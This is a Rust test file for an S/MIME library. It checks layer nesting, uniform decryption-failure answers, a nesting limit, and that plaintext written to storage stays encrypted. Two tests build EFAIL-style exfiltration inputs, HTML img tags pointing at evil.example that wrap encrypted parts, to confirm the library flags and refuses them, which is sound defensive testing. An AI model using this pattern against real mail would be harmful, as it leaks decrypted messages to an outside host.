//! Layers inside encryption: any nesting is opened and judged, only what is the whole is decrypted, every failure is one answer, and no
//! plaintext reaches a place outside memory.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::cast_possible_truncation,
    reason = "tests may panic"
)]

mod support;

use std::cell::RefCell;
use std::io::{self, Cursor, Read, Seek, SeekFrom, Write};
use std::rc::Rc;
use std::sync::atomic::{AtomicU32, Ordering};

use kakitome_cms::{CompressedData, Keys, UnlockPolicy, oid};
use kakitome_crypto::{OpenError, Opener, Wrapped, Zeroizing};
use kakitome_smime::{Backing, Covers, InMemory, LayerKind, LayerState, Limits, Policy, Report, Spill, decrypt, open_encrypted};
use support::cast::{ALICE, EVE, parts};
use support::envelope::{CBC, GCM, Reader};
use support::{Authority, NOW, TEXT, clear, has, ids, mail, opaque};

const BOB: &str = "bob@bank.example";

fn kinds(report: &Report) -> Vec<LayerKind> {
    report.layers.iter().map(|layer| layer.kind).collect()
}

fn compressed(content: &str) -> String {
    opaque("compressed-data", &CompressedData::write(oid::DATA, content.as_bytes()).unwrap())
}

#[test]
fn any_nesting_is_opened() {
    use LayerKind::{AuthenticatedEncrypted as Auth, Compressed, Encrypted, Signed};
    let root = Authority::new("Root");
    let (alice, bob) = (root.person(ALICE), Reader::new(&root, BOB));
    let signed = clear(TEXT, &alice.detached(TEXT.as_bytes()));
    let signed_opaque = opaque("signed-data", &alice.opaque(TEXT.as_bytes()));
    let outside = |entity: &str| clear(entity, &alice.detached(entity.as_bytes())).replace("outer", "outermost");
    let triple = outside(&bob.entity(GCM, &signed));
    let wrapped = opaque("signed-data", &alice.opaque(bob.entity(CBC, &compressed(&signed_opaque)).as_bytes()));
    for (entity, layers) in [
        (bob.entity(CBC, &signed), vec![Encrypted, Signed]),
        (bob.entity(GCM, &signed), vec![Auth, Signed]),
        (bob.entity(GCM, &signed_opaque), vec![Auth, Signed]),
        (triple, vec![Signed, Auth, Signed]),
        (wrapped, vec![Signed, Encrypted, Compressed, Signed]),
        (bob.entity(GCM, &bob.entity(CBC, &signed)), vec![Auth, Encrypted, Signed]),
        (compressed(&signed), vec![Compressed, Signed]),
        (compressed(&bob.entity(GCM, &signed)), vec![Compressed, Auth, Signed]),
    ] {
        let report = bob.judge(&root, &mail(ALICE, &entity));
        assert_eq!((report.verdict().word(), kinds(&report)), ("valid", layers), "{:?}", ids(&report));
        let is_whole = |layer: &kakitome_smime::Layer| layer.covers == Covers::Whole && layer.state == LayerState::Read;
        assert!(report.layers.iter().all(is_whole), "{:?}", report.layers);
        for (number, layer) in report.layers.iter().enumerate() {
            assert_eq!(layer.inside, number.checked_sub(1));
            assert_eq!(layer.opened.is_some(), matches!(layer.kind, Encrypted | Auth), "{layer:?}");
            assert_eq!(layer.opened.as_ref().is_some_and(|opened| opened.is_authenticated), layer.kind == Auth);
        }
        assert_eq!(bob.judge(&root, &mail(EVE, &entity)).verdict().word(), "untrusted", "From is not the signer's");
    }
}

#[test]
fn containers_are_known_by_type_name_or_content() {
    let root = Authority::new("Root");
    let (alice, bob) = (root.person(ALICE), Reader::new(&root, BOB));
    let entity = bob.entity(GCM, &clear(TEXT, &alice.detached(TEXT.as_bytes())));
    let stated = "application/pkcs7-mime; smime-type=authEnveloped-data; name=smime.p7m";
    for header in [
        "application/pkcs7-mime",
        "application/x-pkcs7-mime; name=x",
        "application/pkcs7-mime; smime-type=signed-data",
        "application/octet-stream; name=smime.p7m",
        "application/octet-stream; name=letter.bin",
        "application/x-download",
    ] {
        let changed = entity.replace(stated, header);
        let report = bob.judge(&root, &mail(ALICE, &changed));
        assert_eq!(report.verdict().word(), "valid", "{header}: {:?}", ids(&report));
        assert_eq!(has(&report, "smime.type-differs"), header.contains("signed-data"));
        let inside = decrypt(&mut Cursor::new(mail(ALICE, &changed)), &bob.keys(), &UnlockPolicy::default(), &Limits::default(), &InMemory);
        assert!(inside.is_ok_and(|inside| inside.is_authenticated()), "{header}");
    }
}

#[test]
fn v24_encrypted_is_not_signed() {
    let root = Authority::new("Root");
    let bob = Reader::new(&root, BOB);
    for cipher in [CBC, GCM] {
        let report = bob.judge(&root, &bob.mail(ALICE, cipher, TEXT));
        assert_eq!(report.verdict().word(), "unsigned", "{:?}", ids(&report));
        assert_eq!(report.layers[0].state, LayerState::Read);
        assert_eq!(has(&report, "cms.unauthenticated-cipher"), cipher == CBC);
    }
    let inside = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\">\r\n";
    assert!(has(&bob.judge(&root, &bob.mail(ALICE, CBC, inside)), "smime.fetches"));
    assert!(!has(&bob.judge(&root, &bob.mail(ALICE, GCM, inside)), "smime.fetches"));
    let alice = root.person(ALICE);
    let signed = clear(inside, &alice.detached(inside.as_bytes()));
    assert!(!has(&bob.judge(&root, &bob.mail(ALICE, CBC, &signed)), "smime.fetches"), "the signature vouches for it");
}

#[test]
fn every_failure_is_one_answer() {
    let root = Authority::new("Root");
    let (bob, carol) = (Reader::new(&root, BOB), Reader::new(&root, "carol@bank.example"));
    let told = |report: &Report| (report.verdict().word(), report.layers[0].state, ids(report));
    // Another key under the same certificate: the content's key comes out wrong.
    let wrong = Keys::new().own(&bob.person.certificate, &carol.opener);
    let mut answers = Vec::new();
    for (number, cipher) in [CBC, GCM, CBC].into_iter().enumerate() {
        let content = if number == 2 { "\u{1}no mail at all" } else { TEXT };
        let mut container = bob.envelope(cipher, content.as_bytes());
        let keys = if number == 2 { bob.keys() } else { wrong.clone() };
        let judge = |container: &[u8], keys: &Keys<'_>| {
            let bytes = mail(ALICE, &opaque("enveloped-data", container));
            let bytes = String::from_utf8(bytes).unwrap().replace("smime-type=enveloped-data; ", "");
            open_encrypted(&mut Cursor::new(bytes), &root.evidence(), &Policy::default(), NOW, keys, &InMemory).unwrap()
        };
        answers.push(told(&judge(&container, &keys)));
        // Changed on the way: the last octet of tag or padding.
        let at = container.len() - if cipher == GCM { 1 } else { 20 };
        container[at] ^= 1;
        answers.push(told(&judge(&container, &bob.keys())));
    }
    let first = ("undecryptable", LayerState::Undecryptable, vec!["smime.undecryptable"]);
    assert!(answers.iter().all(|answer| *answer == first), "{answers:#?}");
    let nobody = carol.judge(&root, &bob.mail(ALICE, GCM, TEXT));
    assert_eq!(told(&nobody), ("undecryptable", LayerState::NoKey, vec!["smime.no-key"]));
}

/// Counts how often it is asked, and answers nothing.
struct Asked(AtomicU32, Vec<u8>);

impl Opener for Asked {
    fn public_key(&self) -> &[u8] {
        &self.1
    }

    fn unwrap(&self, _: &Wrapped<'_>, _: usize) -> Result<Zeroizing<Vec<u8>>, OpenError> {
        self.0.fetch_add(1, Ordering::Relaxed);
        Err(OpenError::Away { reason: "asleep".to_owned() })
    }
}

#[test]
fn m02_m03_encryption_beside_other_parts_is_not_opened() {
    let root = Authority::new("Root");
    let (alice, bob) = (root.person(ALICE), Reader::new(&root, BOB));
    let secret = bob.entity(CBC, TEXT);
    let html = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
    let asked = Asked(AtomicU32::new(0), bob.person.certificate.spki().to_vec());
    let keys = Keys::new().own(&bob.person.certificate, &asked);
    let judge =
        |entity: &str| open_encrypted(&mut Cursor::new(mail(EVE, entity)), &root.evidence(), &Policy::default(), NOW, &keys, &InMemory);
    let eve = root.person(EVE);
    let mixed = parts("mixed", &[html, &secret, "Content-Type: text/html\r\n\r\n\">"]);
    let attached = format!("Content-Type: message/rfc822\r\n\r\n{}", String::from_utf8(bob.mail(ALICE, CBC, TEXT)).unwrap());
    for entity in [
        mixed.clone(),
        parts("alternative", &[TEXT, &secret]),
        parts("mixed", &[&secret]),
        clear(&mixed, &eve.detached(mixed.as_bytes())),
        opaque("signed-data", &eve.opaque(mixed.as_bytes())),
        attached.clone(),
        parts("mixed", &[TEXT, &attached]),
    ] {
        let report = judge(&entity).unwrap();
        assert!(has(&report, "smime.encrypted-part") || has(&report, "smime.attached-message"), "{entity}\n{:?}", ids(&report));
        assert!(report.layers.iter().all(|layer| layer.opened.is_none()));
    }
    assert_eq!(asked.0.load(Ordering::Relaxed), 0, "nobody asked for a key");
    // The whole is opened, and whoever holds the key gives no answer: that is no verdict about the mail.
    let error = judge(&secret).expect_err("the holder of the key is away");
    assert!(error.to_string().contains("asleep"), "{error}");
    assert_eq!(asked.0.load(Ordering::Relaxed), 1);
    // A list's footer around a signed mail covers a part, also inside an encryption.
    let signed = clear(TEXT, &alice.detached(TEXT.as_bytes()));
    let report = bob.judge(&root, &bob.mail(ALICE, GCM, &parts("mixed", &[&signed, "Content-Type: text/plain\r\n\r\n-- \r\nlist\r\n"])));
    assert_eq!((report.verdict().word(), report.signers[0].covers), ("untrusted", Covers::Part));
}

#[test]
fn m25_encrypted_and_signed_past_the_limit() {
    let root = Authority::new("Root");
    let (alice, bob) = (root.person(ALICE), Reader::new(&root, BOB));
    for (times, verdict) in [(16, "valid"), (17, "unreadable")] {
        let mut entity = clear(TEXT, &alice.detached(TEXT.as_bytes()));
        for _ in 1..times {
            entity = bob.entity(GCM, &entity);
        }
        let report = bob.judge(&root, &mail(ALICE, &entity));
        assert_eq!(report.verdict().word(), verdict, "{times}: {:?}", ids(&report));
        assert_eq!(has(&report, "smime.too-many-layers"), times > 16);
    }
}

#[test]
fn decrypt_takes_signatures_and_compression_around_it_off() {
    let root = Authority::new("Root");
    let (alice, bob) = (root.person(ALICE), Reader::new(&root, BOB));
    let secret = bob.entity(GCM, TEXT);
    for entity in [
        clear(&secret, &alice.detached(secret.as_bytes())),
        opaque("signed-data", &alice.opaque(secret.as_bytes())),
        compressed(&opaque("signed-data", &alice.opaque(secret.as_bytes()))),
    ] {
        let mut source = Cursor::new(mail(ALICE, &entity));
        let mut inside = decrypt(&mut source, &bob.keys(), &UnlockPolicy::default(), &Limits::default(), &InMemory).unwrap();
        let mut out = Vec::new();
        inside.write_to(&mut out).unwrap();
        assert_eq!(out, TEXT.as_bytes());
    }
}

/// Places whose bytes can be looked at afterwards.
#[derive(Clone, Default)]
struct Seen(Rc<RefCell<Vec<Bytes>>>);

/// What one place has.
type Bytes = Rc<RefCell<Cursor<Vec<u8>>>>;

struct Place(Bytes);

impl Spill for Seen {
    fn create(&self) -> io::Result<Box<dyn Backing>> {
        let place = Bytes::default();
        self.0.borrow_mut().push(Rc::clone(&place));
        Ok(Box::new(Place(place)))
    }
}

impl Read for Place {
    fn read(&mut self, out: &mut [u8]) -> io::Result<usize> {
        self.0.borrow_mut().read(out)
    }
}

impl Write for Place {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.borrow_mut().write(bytes)
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

impl Seek for Place {
    fn seek(&mut self, to: SeekFrom) -> io::Result<u64> {
        self.0.borrow_mut().seek(to)
    }
}

#[test]
fn m12_plaintext_leaves_memory_as_ciphertext_only() {
    let root = Authority::new("Root");
    let (alice, bob) = (root.person(ALICE), Reader::new(&root, BOB));
    let content = format!("Content-Type: text/plain\r\n\r\n{}", "Payment order 4711 in this line.\r\n".repeat(60_000));
    let signed = opaque("signed-data", &alice.opaque(content.as_bytes()));
    for entity in [bob.entity(GCM, &signed), bob.entity(CBC, &clear(&content, &alice.detached(content.as_bytes())))] {
        let spill = Seen::default();
        let mut source = Cursor::new(mail(ALICE, &entity));
        let report = open_encrypted(&mut source, &root.evidence(), &Policy::default(), NOW, &bob.keys(), &spill).unwrap();
        assert_eq!(report.verdict().word(), "valid", "{:?}", ids(&report));
        let places = spill.0.borrow();
        assert!(!places.is_empty(), "it does not fit into memory");
        for place in places.iter() {
            let bytes = place.borrow();
            assert!(bytes.get_ref().len() > 1_000_000);
            let encoded = support::base64(b"Payment order 4711 in this");
            let plain = [&b"Payment"[..], b"Content-Type", &encoded.as_bytes()[..32]];
            assert!(plain.iter().all(|text| memchr::memmem::find(bytes.get_ref(), text).is_none()));
        }
    }
}
